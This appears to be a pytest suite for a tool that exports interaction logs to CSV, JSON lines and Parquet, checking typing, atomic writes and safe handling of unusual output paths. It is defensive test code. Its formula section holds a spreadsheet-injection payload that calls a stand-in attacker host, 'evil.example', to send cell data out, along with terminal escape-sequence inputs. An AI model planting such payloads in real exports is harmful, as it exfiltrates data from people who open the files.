"""Exporting tables and views: CSV, JSON lines and Parquet, streamed, and nothing half-written."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import sqlite3
import stat
import sys
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from full_disk import fill, small_disk  # noqa: F401 - the fixture
from two_nights import NIGHT_1, build, two_nights_db  # noqa: F401 - the `db` fixture

from orchestrator.analysis.export import ExportError, export, format_for
from orchestrator.cli.main import main
from orchestrator.core import durable


def sqlite_rows(db: Path, name: str) -> tuple[list[str], list[tuple[Any, ...]]]:
    connection = sqlite3.connect(db)
    try:
        cursor = connection.execute(f"SELECT * FROM {name}")
        return [d[0] for d in cursor.description], cursor.fetchall()
    finally:
        connection.close()


def invoke(*args: str) -> Any:
    return CliRunner().invoke(main, list(args))


def test_parquet_round_trips_a_view_in_row_groups(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "steps.parquet"
    assert export(db, "interaction_details", out, "parquet", row_group_rows=3, read_rows=2) == 10
    columns, rows = sqlite_rows(db, "interaction_details")
    parquet = pq.ParquetFile(out)
    # Read 2 rows at a time, written 3 to a row group: never the whole table in memory.
    groups = [parquet.metadata.row_group(i).num_rows for i in range(parquet.metadata.num_row_groups)]
    assert groups == [3, 3, 3, 1]
    table = parquet.read()
    assert table.column_names == columns
    expected = [dict(zip(columns, row, strict=True)) for row in rows]
    for row in expected:  # sqlite's 0/1 booleans come back as bools, the log's typed text with its types
        row["expectation_met"] = None if row["expectation_met"] is None else bool(row["expectation_met"])
        row["night"] = date.fromisoformat(row["night"])
        for column in ("started_at", "finished_at"):
            row[column] = None if row[column] is None else datetime.fromisoformat(row[column])
    assert table.to_pylist() == expected


def test_parquet_types_follow_the_declared_and_computed_columns(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "steps.parquet"
    export(db, "interaction_details", out, "parquet")
    schema = pq.read_schema(out)
    assert schema.field("interaction_id").type == pa.int64()
    assert schema.field("night").type == pa.date32()  # computed text, typed by what it holds
    assert schema.field("transcript_words").type == pa.int64()  # computed: inferred from its values
    assert schema.field("expectation_met").type == pa.bool_()
    assert schema.field("response_latency_seconds").type == pa.float64()
    assert schema.field("started_at").type == pa.timestamp("us", tz="UTC")  # the log's ISO-8601 text, typed


def test_exports_keep_instants_dates_and_words_typed(db: Path, tmp_path: Path) -> None:
    copy = tmp_path / "orchestrator.sqlite"
    source, target = sqlite3.connect(db), sqlite3.connect(copy)
    source.backup(target)
    source.close()
    heard = [{"conf": 0.9, "end": 0.61, "start": 0.12, "word": "welcome"}, {"conf": 1.0, "end": 1.0, "start": 0.61,
                                                                             "word": "back"}]
    target.execute("UPDATE interactions SET words_json = ? WHERE id = 1", (json.dumps(heard),))
    target.commit()
    target.close()
    db = copy
    export(db, "interactions", tmp_path / "steps.parquet", "parquet")
    table = pq.read_table(tmp_path / "steps.parquet")
    words = table.schema.field("words_json").type
    assert pa.types.is_list(words) and [f.name for f in words.value_type] == ["word", "start", "end", "conf"]
    spoken = [w for w in table.column("words_json").to_pylist() if w]
    assert spoken == [heard]
    started = table.column("started_at").to_pylist()
    assert all(moment.tzinfo is not None and moment.utcoffset().total_seconds() == 0 for moment in started)
    export(db, "interactions", tmp_path / "steps.jsonl", "jsonl")
    lines = [json.loads(line) for line in (tmp_path / "steps.jsonl").read_text().splitlines()]
    assert [row["words_json"] for row in lines if row["words_json"]] == spoken  # arrays, not JSON text
    assert all(isinstance(row["started_at"], str) and row["started_at"].endswith("Z") for row in lines)


def test_parquet_of_an_empty_table_keeps_its_schema(tmp_path: Path) -> None:
    path = tmp_path / "orchestrator.sqlite"
    build(path, tmp_path).dispose()
    out = tmp_path / "skills.parquet"
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE empty_copy AS SELECT * FROM runs WHERE 0")
    connection.commit()
    connection.close()
    assert export(path, "empty_copy", out, "parquet") == 0
    table = pq.read_table(out)
    assert table.num_rows == 0
    assert table.schema.field("persona_id").type == pa.int64()


def test_csv_export_of_a_table(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "runs.csv"
    assert export(db, "runs", out, "csv") == 4
    parsed = list(csv.DictReader(out.open(newline="")))
    assert [(r["id"], r["status"]) for r in parsed] == [("1", "completed"), ("2", "completed"), ("3", "failed"),
                                                        ("4", "missed")]
    assert parsed[3]["finished_at"].endswith("Z")


def test_jsonl_export_of_a_view(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "installs.jsonl"
    assert export(db, "install_details", out, "jsonl") == 3
    objects = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(o["night"], o["skill_name"], o["outcome"], o["reply_transcript"]) for o in objects] == [
        (NIGHT_1, "Cat Facts", "enabled", "Cat Facts is now enabled"),
        (NIGHT_1, "Dog Feeder", "not_found", "I couldn't find that skill"),
        ("2026-03-05", "Dog Feeder", "enabled", "Dog Feeder is now enabled"),
    ]


@pytest.fixture
def mixed(tmp_path: Path) -> Path:
    """A log with a view whose computed column holds numbers first and text later."""
    path = tmp_path / "orchestrator.sqlite"
    build(path, tmp_path).dispose()
    connection = sqlite3.connect(path)
    connection.execute(
        "CREATE VIEW mixed AS SELECT CASE WHEN id < 3 THEN id ELSE 'many' END AS value FROM interactions"
    )
    connection.commit()
    connection.close()
    return path


def test_a_computed_column_of_numbers_and_text_becomes_text(mixed: Path, tmp_path: Path) -> None:
    out = tmp_path / "mixed.parquet"
    export(mixed, "mixed", out, "parquet")
    assert pq.read_table(out).column("value").to_pylist() == ["1", "2", *["many"] * 8]


def test_a_failed_export_leaves_no_file(mixed: Path, tmp_path: Path) -> None:
    out = tmp_path / "mixed.parquet"
    # The first 2 rows say integer; the third cannot go into that column any more.
    with pytest.raises(ExportError, match="column 'value'"):
        export(mixed, "mixed", out, "parquet", read_rows=2)
    assert sorted(p.name for p in tmp_path.glob("mixed*")) == []


def test_parquet_without_pyarrow_is_a_clear_error(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    out = tmp_path / "steps.parquet"
    result = invoke("export", "interactions", "--db", str(db), "--out", str(out))
    assert result.exit_code == 1
    assert "pip install 'echo-orchestrator[parquet]'" in result.stderr
    assert not out.exists()


def test_export_command_to_stdout(db: Path) -> None:
    result = invoke("export", "personas", "--db", str(db), "--format", "csv", "--out", "-")
    assert result.exit_code == 0, result.output
    assert [r["name"] for r in csv.DictReader(io.StringIO(result.stdout))] == ["pets", "vanilla"]
    assert "exported 2 rows of personas to stdout (csv)" in result.stderr


def test_export_command_takes_the_format_from_the_suffix(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "runs.parquet"
    result = invoke("export", "run_details", "--db", str(db), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert pq.read_table(out).column("status").to_pylist() == ["completed", "completed", "failed", "missed"]
    assert format_for(Path("a.CSV"), None) == "csv"


@pytest.mark.parametrize(
    "args, message",
    [
        (["nope", "--out", "x.csv"], "no table or view called 'nope'; the log has: alembic_version, captures, devices"),
        (["runs", "--out", "runs.txt"], "cannot tell the format of runs.txt"),
        (["runs", "--format", "parquet", "--out", "-"], "Parquet cannot be written to stdout"),
    ],
)
def test_export_command_errors(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str],
                               message: str) -> None:
    monkeypatch.chdir(tmp_path)
    result = invoke("export", *args, "--db", str(db))
    assert result.exit_code == 2  # what was asked for cannot be done as asked
    assert message in result.stderr
    assert list(tmp_path.iterdir()) == []


# -- formulas in CSV ------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def formulas(tmp_path: Path) -> Path:
    """A log whose transcripts and errors start like spreadsheet formulas."""
    path = tmp_path / "orchestrator.sqlite"
    build(path, tmp_path).dispose()
    connection = sqlite3.connect(path)
    connection.execute("UPDATE interactions SET transcript = ? WHERE id = 1", (FORMULA,))
    connection.execute("UPDATE interactions SET transcript = '@SUM(1+1)', error = '-2+3' WHERE id = 2")
    connection.execute("UPDATE interactions SET transcript = '+1', error = char(9) || '=1' WHERE id = 3")
    connection.commit()
    connection.close()
    return path


def transcripts(text: str) -> list[tuple[str, str, str]]:
    return [(r["id"], r["transcript"], r["error"]) for r in csv.DictReader(io.StringIO(text))][:3]


def test_csv_export_neutralises_formulas(formulas: Path, tmp_path: Path) -> None:
    out = tmp_path / "steps.csv"
    export(formulas, "interactions", out, "csv")
    assert transcripts(out.read_text()) == [
        ("1", "'" + FORMULA, ""), ("2", "'@SUM(1+1)", "'-2+3"), ("3", "'+1", "'\t=1"),
    ]
    # Numbers stay numbers, negative ones too; JSON lines keep the text as it is.
    export(formulas, "interactions", tmp_path / "steps.jsonl", "jsonl")
    first = json.loads((tmp_path / "steps.jsonl").read_text().splitlines()[0])
    assert first["transcript"] == FORMULA


def test_csv_of_query_and_report_neutralise_formulas(formulas: Path) -> None:
    query = invoke("query", "SELECT id, transcript, error, -1 AS n, 'x' AS \"=col\" FROM interactions ORDER BY id",
                   "--db", str(formulas), "--format", "csv")
    assert query.exit_code == 0, query.output
    rows = list(csv.reader(io.StringIO(query.stdout)))
    assert rows[0] == ["id", "transcript", "error", "n", "'=col"]
    assert rows[1] == ["1", "'" + FORMULA, "", "-1", "x"]
    report = invoke("report", "search", "--grep", "sum", "--db", str(formulas), "--format", "csv")
    assert report.exit_code == 0, report.output
    assert [r["transcript"] for r in csv.DictReader(io.StringIO(report.stdout))] == ["'@SUM(1+1)"]
    export_to_stdout = invoke("export", "interactions", "--db", str(formulas), "--format", "csv", "--out", "-")
    assert transcripts(export_to_stdout.stdout)[0] == ("1", "'" + FORMULA, "")


def test_a_table_on_the_terminal_escapes_control_characters(formulas: Path) -> None:
    connection = sqlite3.connect(formulas)
    connection.execute("UPDATE interactions SET transcript = char(27) || '[2J' || char(8238) || 'gotcha' WHERE id = 1")
    connection.commit()
    connection.close()
    result = invoke("query", "SELECT transcript FROM interactions WHERE id = 1", "--db", str(formulas))
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
    assert "\\x1b[2J\\u202egotcha" in result.stdout


# -- where the file goes -------------------------------------------------------------------------------


def test_export_refuses_a_symbolic_link(db: Path, tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("keep")
    link = tmp_path / "runs.csv"
    link.symlink_to(real)
    result = invoke("export", "runs", "--db", str(db), "--out", str(link))
    assert result.exit_code == 2
    assert f"Error: {link}: is a symbolic link" in result.stderr
    assert link.is_symlink() and real.read_text() == "keep"


def test_export_refuses_a_fifo(db: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "runs.csv"
    os.mkfifo(fifo)
    result = invoke("export", "runs", "--db", str(db), "--out", str(fifo))
    assert result.exit_code == 2
    assert "is a FIFO, not a regular file: refusing to replace it" in result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert os.listdir(tmp_path) == ["runs.csv"]


def test_export_refuses_a_device(db: Path, tmp_path: Path) -> None:
    node = tmp_path / "full"
    try:  # /dev/full's numbers, in a node of our own: a writer that replaces it harms nothing else
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    except PermissionError:
        pytest.skip("making a device node needs CAP_MKNOD")
    result = invoke("export", "runs", "--db", str(db), "--format", "csv", "--out", str(node))
    assert result.exit_code == 2
    assert "is a device" in result.stderr
    assert stat.S_ISCHR(os.lstat(node).st_mode)


def test_export_refuses_a_folder_that_does_not_exist(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "nowhere" / "runs.csv"
    result = invoke("export", "runs", "--db", str(db), "--out", str(out))
    assert result.exit_code == 2
    assert f"the folder {out.parent} does not exist" in result.stderr
    assert not out.parent.exists()


def test_a_full_disk_keeps_the_earlier_export(db: Path, small_disk: Path) -> None:  # noqa: F811 - the fixture
    out = small_disk / "steps.parquet"
    assert invoke("export", "runs", "--db", str(db), "--out", str(out)).exit_code == 0
    before = out.read_bytes()
    fill(small_disk)
    for fmt in ("parquet", "csv"):
        result = invoke("export", "interaction_details", "--db", str(db), "--format", fmt, "--out", str(out))
        assert result.exit_code == 1, result.output
        assert f"Error: {out}: disk full" in result.stderr
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert out.read_bytes() == before
        assert sorted(os.listdir(small_disk)) == ["filler", "steps.parquet"]


def test_no_room_at_the_rename_is_a_full_disk(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """ENOSPC at the rename: the export reports a full disk and leaves no temporary file."""
    def no_room(src: object, dst: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(durable.os, "replace", no_room)
    result = invoke("export", "runs", "--db", str(db), "--out", str(tmp_path / "runs.csv"))
    assert result.exit_code == 1
    assert "disk full" in result.stderr
    assert os.listdir(tmp_path) == []
